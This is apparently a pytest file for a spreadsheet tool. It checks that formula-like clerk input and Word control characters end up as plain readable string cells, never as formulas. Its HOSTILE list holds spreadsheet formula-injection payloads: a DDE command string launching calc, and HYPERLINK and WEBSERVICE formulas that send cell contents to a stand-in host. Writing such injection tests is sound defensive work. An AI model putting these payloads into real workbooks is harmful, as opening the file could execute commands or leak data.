"""Clerk text never becomes a formula (issue 10.1) and stays readable (10.2) in
any workbook `xltools new` writes.  Masters and unit forms are built from
options (--department, --units, --filler, --phone, --for-unit) and from forms
(every text field, the sheet the form was on) holding formula-like text and
Word's control characters; then every worksheet XML part is scanned: no <f>
holds clerk text, every such text is a string cell shown as typed (quotePrefix
where Excel would take it for a formula), and a line break stays a line break."""
from __future__ import annotations

import copy
import re
import zipfile
from pathlib import Path
from xml.sax.saxutils import unescape

import openpyxl
import pytest

from xltools.cli import main
from xltools.core.model import Value
from xltools.core.values import parse
from xltools.master.build import MasterSpec, forms_from, write_master
from xltools.profiles import load_profile
from xltools.project import layout as P
from xltools.project.sheet import Header, write_project_sheet
from xltools.xlsx.sheet import Book

from master_fixtures import SUBMISSIONS, project_sheets

PROFILE = load_profile("national")

# text a clerk (or a pasted document) supplies      what must never appear in an <f>
HOSTILE = [
    ("=cmd|' /C calc'!A0",                            "cmd|"),
    ('=HYPERLINK("http://x.cn/?"&A1,"点我")',          "HYPERLINK("),
    ('=WEBSERVICE("http://x.cn/"&B2)',                 "WEBSERVICE("),
    ("\t=2+2",                                         "2+2"),
    ("@SUM(7,7)",                                      "SUM(7,7)"),
    ("+ROUND(9,9)",                                    "ROUND(9,9)"),
]
# pasted from Word: control characters        what the cell holds
CONTROL = [
    ("市民中心\x0b大厅运转",                   "市民中心\n大厅运转"),   # manual line break
    ("窗口补贴\x07",                           "窗口补贴"),             # Word's cell mark
    ("第一页\x0c第二页",                       "第一页\n第二页"),       # page break
    ("网络\x00安全",                           "网络安全"),
    ("信创\ud800工程",                         "信创\ufffd工程"),       # lone surrogate
]
NEEDLES = [needle for _, needle in HOSTILE]


def _value(text: str, like: Value) -> Value:
    return Value(text, parse(text), like.where)


def _hostile_forms(texts: list[str]) -> list:
    """Seed forms whose every text field carries one of `texts`."""
    forms, _ = forms_from([SUBMISSIONS / "局机关.xlsx"])
    out = []
    for k, text in enumerate(texts):
        form = copy.deepcopy(forms[k % len(forms)])
        for attr in ("name", "department", "unit", "goal_expected", "goal_actual"):
            setattr(form, attr, _value(text, getattr(form, attr)))
        for ind in form.indicators:
            for attr in ("name", "target", "actual", "deviation_note"):
                setattr(ind, attr, _value(text, getattr(ind, attr)))
        form.sheet = text
        out.append(form)
    return out


def _formulas(path: Path) -> list[str]:
    out = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                out += [unescape(f, {"&quot;": '"', "&apos;": "'"}) for f in re.findall(r"<f>(.*?)</f>", xml, re.S)]
    return out


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    folder = tmp_path_factory.mktemp("text")
    texts = [t for t, _ in HOSTILE] + [t for t, _ in CONTROL]
    hostile = texts[0]
    files = {}
    files["from-forms.xlsm"] = write_master(folder / "from-forms.xlsm", MasterSpec(
        department=hostile, year=2022, units=texts, filler=texts[1], phone=texts[3],
        forms=_hostile_forms(texts)), PROFILE)
    assert main(["new", str(folder / "options.xlsm"), "--department", texts[2], "--units", ",".join(texts[:4]),
                 "--filler", texts[4], "--phone", texts[5], "--projects", "1"]) == 0
    files["options.xlsm"] = folder / "options.xlsm"
    assert main(["new", str(folder / "unit.xlsx"), "--for-unit", texts[1], "--department", texts[0]]) == 0
    files["unit.xlsx"] = folder / "unit.xlsx"
    # a submission whose sheets are named by clerk text, read with --from
    source = folder / "报送.xlsx"
    with Book(source) as book:
        for k, form in enumerate(_hostile_forms(texts[3:5])):
            write_project_sheet(book, ["=2+2", "@SUM(7,7)"][k], P.ProjectLayout(), PROFILE,
                                header=Header(), form=form)
    assert main(["new", str(folder / "read.xlsm"), "--from", str(source)]) == 0
    files["read.xlsm"] = folder / "read.xlsm"
    return files, texts


QUOTED_SHEET = re.compile(r"'((?:[^']|'')*)'!")


@pytest.mark.parametrize("name", ["from-forms.xlsm", "options.xlsm", "unit.xlsx", "read.xlsm"])
def test_no_formula_holds_clerk_text(written, name):
    """Our formulas refer to project sheets by name (整体支出), and a sheet is
    named after its project: such a reference is quoted, names a sheet of the
    workbook and holds no formula syntax; nothing else of a clerk's text is
    in any formula."""
    files, _ = written
    formulas = _formulas(files[name])
    sheets = set(openpyxl.load_workbook(files[name]).sheetnames)
    assert len(formulas) > 20
    for formula in formulas:
        for quoted in QUOTED_SHEET.findall(formula):
            sheet = quoted.replace("''", "'")
            assert sheet in sheets, (sheet, formula)
            assert not set(sheet) & set("()|\"!&,'="), sheet
    bad = [f for f in formulas if any(needle in QUOTED_SHEET.sub("", f) for needle in NEEDLES)]
    assert not bad, bad[:5]


@pytest.mark.parametrize("text,_needle", HOSTILE)
def test_formula_like_text_is_a_string_shown_as_typed(written, text, _needle):
    files, texts = written
    k = texts.index(text)
    wb = openpyxl.load_workbook(files["from-forms.xlsm"])
    ws, lay = project_sheets(wb)[k]
    for cell in (lay.name_cell, lay.unit_cell, lay.goal_expected_cell, "D12", "E12", "F12", "I12"):
        assert ws[cell].value == text.strip() and ws[cell].data_type == "s", cell  # as typed, trimmed
        assert ws[cell].quotePrefix, cell


@pytest.mark.parametrize("text,held", CONTROL)
def test_control_characters_made_readable(written, text, held):
    files, texts = written
    k = texts.index(text)
    wb = openpyxl.load_workbook(files["from-forms.xlsm"])
    ws, lay = project_sheets(wb)[k]
    for cell in (lay.name_cell, lay.goal_actual_cell, "D12", "I12"):
        assert ws[cell].value == held, cell
    units = [c.value for c in wb["基础信息"]["B"][9:9 + len(texts)]]
    assert held in units


def test_options_are_text(written):
    files, texts = written
    base = openpyxl.load_workbook(files["options.xlsm"])["基础信息"]
    assert (base["B3"].value, base["B5"].value, base["B6"].value) == (texts[2], texts[4], texts[5])
    assert all(base[c].data_type == "s" and base[c].quotePrefix for c in ("B3", "B5", "B6"))
    unit = openpyxl.load_workbook(files["unit.xlsx"])
    assert unit["基础信息"]["B7"].value == texts[1]
    (ws, lay), = project_sheets(unit)
    assert ws[lay.unit_cell].value == texts[1] and ws[lay.department_cell].value == texts[0]


def test_source_sheet_names_are_text(written):
    files, _ = written
    ws = openpyxl.load_workbook(files["read.xlsm"])["校验结果"]
    sheets = {ws.cell(r, 4).value for r in range(4, ws.max_row + 1)}
    assert {"=2+2", "@SUM(7,7)"} <= sheets
